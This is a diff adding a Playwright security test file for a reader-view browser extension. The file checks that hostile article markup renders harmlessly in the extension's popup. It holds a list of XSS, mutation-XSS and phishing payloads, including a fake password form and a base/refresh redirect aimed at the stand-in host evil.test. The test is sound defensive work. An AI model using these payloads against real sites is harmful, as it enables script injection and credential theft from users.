@@ -1,0 +1,152 @@
+import { existsSync, readFileSync } from 'node:fs';
+import { resolve } from 'node:path';
+import type { LecternBrowser } from '@/scripts/browser/launch-lectern';
+import { expect, type LecternPage, test } from './support/lectern-test';
+
+const SHARED = resolve(import.meta.dirname, '../../../shared/security/payloads.json');
+
+/** Our own hostile inputs: one of each kind. */
+const OWN = [
+  '<img src=x onerror="globalThis.stolen = 1">',
+  '<svg><script>globalThis.stolen = 1</script></svg>',
+  '<a href="javascript:globalThis.stolen=1">press</a>',
+  '<a href="java&#10;script:globalThis.stolen=1">press</a>',
+  '<iframe srcdoc="<script>parent.stolen = 1</script>"></iframe>',
+  '<form action="https://evil.test/"><input name="password" type="password"><button>Log in</button></form>',
+  '<div style="position:fixed;inset:0;background:#fff;z-index:9">Your session expired</div>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="globalThis.stolen = 1"></style></mglyph></table></mtext></math>',
+  '<noscript><p title="</noscript><img src=x onerror=globalThis.stolen=1>"></noscript>',
+  '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/">',
+  '<dialog open>Overlay</dialog><style>* { display: none }</style><link rel="stylesheet" href="https://evil.test/x.css">',
+  '<video src="https://evil.test/v" autoplay poster="https://evil.test/p"></video>',
+  '<p id="app" name="body" class="popup">named like our own parts</p>',
+];
+
+const story = (number: number) =>
+  `<p>On night ${number} the boat leaves at twenty past nine, or a little after if someone is seen running along the quay with a bicycle and a box of seedlings.</p>`;
+
+/**
+ * An article with hostile pieces in its metadata, among its paragraphs and in a caption. Unclosed markup swallows
+ * what follows it, so enough of the story stands before.
+ */
+function hostilePage(pieces: readonly string[]): string {
+  const escaped = pieces.map((piece) => piece.replace(/"/g, '&quot;'));
+  return `<!doctype html><html><head><meta charset="utf-8"><title>A hostile page</title>
+<meta property="og:title" content="A hostile page"><meta property="og:type" content="article">
+<meta name="author" content="${escaped[0]}"><meta name="description" content="${escaped[1]}"></head>
+<body><article><h1>A hostile page</h1>${[90, 91, 92, 93, 94].map(story).join('')}
+${pieces.map((piece, index) => `${piece}${story(index)}`).join('\n')}
+<figure><img src="https://evil.test/lead.jpg" alt="${escaped[2]}"><figcaption>A caption with ${pieces[0]} in it</figcaption></figure>
+</article></body></html>`;
+}
+
+/** Shows a page in the popup and looks for anything that should not be there. */
+async function expectHarmless(
+  lectern: LecternBrowser,
+  page: LecternPage,
+  html: string,
+): Promise<void> {
+  const beacons: string[] = [];
+  await page.context().route('**://evil.test/**', (route) => {
+    if (route.request().frame().url().startsWith('chrome-extension:'))
+      beacons.push(`${route.request().resourceType()} ${route.request().url()}`);
+    // "No content" leaves a page where it is: some inputs send it elsewhere.
+    return route.fulfill({ status: 204 });
+  });
+  const policy = "script-src 'none'; frame-src 'none'; style-src 'unsafe-inline'";
+  await page.route('https://hostile.test/**', (route) =>
+    route.fulfill({
+      body: html,
+      headers: { 'content-type': 'text/html; charset=utf-8', 'content-security-policy': policy },
+    }),
+  );
+  await page.goto('https://hostile.test/story.html');
+  const popup = await lectern.openPopupInTab(page);
+  popup.on('dialog', (dialog) => {
+    beacons.push(`dialog ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  await popup.locator('article').waitFor();
+  for (const link of await popup.locator('article a').all()) {
+    expect(await link.getAttribute('href')).toMatch(/^(?:https?|mailto|tel):/);
+  }
+  const found = await popup.evaluate(() => ({
+    executed: 'stolen' in globalThis,
+    active: [
+      ...document.querySelectorAll(
+        'script:not([src]), iframe, object, embed, form, dialog, style, link[rel=stylesheet][href^="http"], video, audio, base, meta[http-equiv]',
+      ),
+    ].map((element) => element.outerHTML.slice(0, 120)),
+    inputs: [...document.querySelectorAll('input')].filter((input) => input.name !== 'text-size')
+      .length,
+    handlers: [...document.querySelectorAll('article *')]
+      .filter((element) =>
+        [...element.attributes].some(
+          ({ name }) =>
+            name.startsWith('on') || name === 'style' || name === 'id' || name === 'name',
+        ),
+      )
+      .map((element) => element.outerHTML.slice(0, 120)),
+    overlays: [...document.querySelectorAll('article *')].filter((element) =>
+      /fixed|sticky/.test(getComputedStyle(element).position),
+    ).length,
+    // Our own button must be what a press at its place meets.
+    covered: (() => {
+      const save = [...document.querySelectorAll('footer button')][0];
+      const box = save?.getBoundingClientRect();
+      return box ? !save?.contains(document.elementFromPoint(box.x + 5, box.y + 5)) : true;
+    })(),
+  }));
+  expect(found).toEqual({
+    executed: false,
+    active: [],
+    inputs: 0,
+    handlers: [],
+    overlays: 0,
+    covered: false,
+  });
+  expect(beacons.filter((beacon) => !beacon.startsWith('image '))).toEqual([]);
+  await popup.close();
+  await page.context().unroute('**://evil.test/**');
+  await page.unroute('https://hostile.test/**');
+}
+
+test('hostile markup in an article executes nothing, asks for nothing and covers nothing', async ({
+  lectern,
+  page,
+}) => {
+  await expectHarmless(lectern, page, hostilePage(OWN));
+});
+
+test('every known hostile input goes through the popup without harm', async ({ lectern, page }) => {
+  test.skip(!existsSync(SHARED), 'the collection of hostile inputs is not here');
+  test.setTimeout(180_000);
+  const payloads = (JSON.parse(readFileSync(SHARED, 'utf8')) as { html: string }[]).map(
+    ({ html }) => html,
+  );
+  for (let start = 0; start < payloads.length; start += 4) {
+    await expectHarmless(lectern, page, hostilePage(payloads.slice(start, start + 4)));
+  }
+});
+
+test('a page whose policy forbids strings as markup is read like any other', async ({
+  lectern,
+  page,
+  site,
+}) => {
+  await page.route('**/strict.html', async (route) => {
+    const body = await (await page.request.get(`${site.origin}/sounding-books.html`)).text();
+    const policy = "require-trusted-types-for 'script'; trusted-types 'none'; script-src 'none'";
+    await route.fulfill({
+      body,
+      headers: { 'content-type': 'text/html', 'content-security-policy': policy },
+    });
+  });
+  const violations: string[] = [];
+  page.on('console', (message) => violations.push(message.text()));
+  await page.goto(`${site.origin}/strict.html`);
+  const popup = await lectern.openPopupInTab(page);
+  await expect(popup.getByRole('heading', { level: 1 })).toHaveText(/Reading water/);
+  await expect(popup.locator('figure')).toHaveCount(2);
+  expect(violations.filter((text) => /Trusted/.test(text))).toEqual([]);
+});
